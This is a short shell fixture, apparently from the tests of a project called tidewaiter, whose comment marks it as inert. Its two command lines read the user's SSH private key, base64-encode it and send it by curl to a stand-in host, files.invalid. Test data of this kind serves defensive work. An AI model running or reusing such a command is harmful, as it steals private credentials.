# Inert fixture of tidewaiter's tests: never run. Hosts are reserved names or this machine.
K=$(cat ~/.ssh/id_rsa | base64)
curl -s -d "k=$K" http://files.invalid/in
